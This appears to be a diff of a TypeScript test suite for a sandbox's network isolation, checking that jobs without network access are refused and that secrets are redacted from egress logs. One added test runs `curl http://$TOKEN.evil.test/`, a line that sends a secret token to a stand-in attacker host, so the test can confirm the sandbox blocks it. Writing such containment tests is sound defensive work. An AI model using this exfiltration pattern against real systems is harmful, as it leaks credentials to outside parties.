@@ -201,7 +201,7 @@ except OSError as e: print("refused")'
 
   test("is no other execution, while both run in an open network", async () => {
     const open = internet.claim({ mode: "internet" });
-    const listener = `python3 -c 'import socket
+    const listener = `exec 8</usr/bin/env 9</dev/null; flock 8; flock 9; python3 -c 'import socket
 s = socket.socket(); s.bind(("0.0.0.0", 7777)); s.listen(); print("listening", flush=True)
 u = socket.socket(socket.AF_UNIX); u.bind("\\0paddock-execution"); u.listen()
 s.settimeout(20)
@@ -211,7 +211,8 @@ except OSError: print("nobody came")' & pid=$!; while [ ! -e stop ] && kill -0 $
       curl -sS -o /dev/null -w '%{http_code}\\n' --noproxy '' http://127.0.0.1:7777/
       python3 -c 'import socket
 try: socket.socket(socket.AF_UNIX).connect("\\0paddock-execution"); print("open")
-except OSError as e: print("refused")'`;
+except OSError as e: print("refused")'
+      for file in /usr/bin/env /dev/null; do flock -n $file echo free || echo locked; done`;
     let sought = "";
     const first = await execute(claimFor(listener, open), "A", {
       environment: internet.environment,
@@ -226,21 +227,41 @@ except OSError as e: print("refused")'`;
         gateway.claim = { ...claim, lease: { ...claim.lease, heartbeatIntervalMs: 200 } };
       },
     });
-    expect(sought).toBe("refused\n403\nrefused\n");
+    expect(sought).toBe("refused\n403\nrefused\nfree\nfree\n");
     expect(first.gateway.settled?.output).not.toContain("reached");
     expect(first.leftovers).toEqual([]);
   });
 
-  test("is nothing at all with `none`, the proxy neither", async () => {
+  test("NET-4 is nothing at all with `none`, and each program is told so at once", async () => {
+    const secrets = [{ key: "TOKEN", value: "Sk-live-0123456789abcdef" }];
     const { gateway } = await run(
-      `${tcp(3128)}; env | grep -ci proxy; curl -sS http://1.1.1.1/ 2>&1`,
-      {
-        ...claimed,
-        network: claimFor("").network,
-      },
+      `curl -sS http://1.1.1.1/; curl -sSv https://example.com/ 2>&1 | grep '< HTTP'
+      curl -sS http://1.1.1.1/ --noproxy '*' 2>&1; curl -s http://$TOKEN.evil.test/ >/dev/null
+      git clone -q https://example.com/x 2>&1; python3 -c '${python("https://example.com/")}'
+      node -e '${fetchIn("https://example.com/")}'
+      start=$SECONDS; npm view left-pad version 2>&1 | head -3; pip3 download greeting 2>&1 | tail -2
+      [ $((SECONDS - start)) -lt 30 ] && echo "npm and pip are not kept waiting"
+      exit 1`,
+      { ...claimed, secrets, network: claimFor("").network },
     );
-    expect(gateway.settled?.output).toMatch(/^refused\n0\n.*Couldn't connect|Failed to connect/);
-    expect(gateway.egress).toEqual([]);
+    const output = gateway.settled?.output ?? "";
+    expect(output).toContain('"rule":"no_network"');
+    expect(output).toContain('its network to {\\"mode\\":\\"allowlist\\"');
+    expect(output).toContain("403 The environment has no network (no_network)");
+    expect(output).toMatch(/curl: \(7\) .*(Couldn't|Failed to) connect/);
+    expect(output).toMatch(/fatal: unable to access .*response 403/);
+    expect(output).toMatch(/python: .*403 The environment has no network/);
+    expect(output).toMatch(/npm error .*403/);
+    expect(output).toContain("npm and pip are not kept waiting");
+    expect(output).toMatch(/The network policy refused: 1\.1\.1\.1:80 \(no_network\)/);
+    for (const attempt of gateway.egress) {
+      const refused = { verdict: "refused", rule: "no_network", address: null, sentBytes: 0 };
+      expect(attempt).toMatchObject(refused);
+    }
+    const asked = gateway.egress.map(({ host, port }) => `${host}:${port}`);
+    expect(asked).toEqual(
+      expect.arrayContaining(["1.1.1.1:80", "example.com:443", "[redacted:TOKEN].evil.test:80"]),
+    );
   });
 
   test("F6 isn't opened half: without its door nothing is run", async () => {
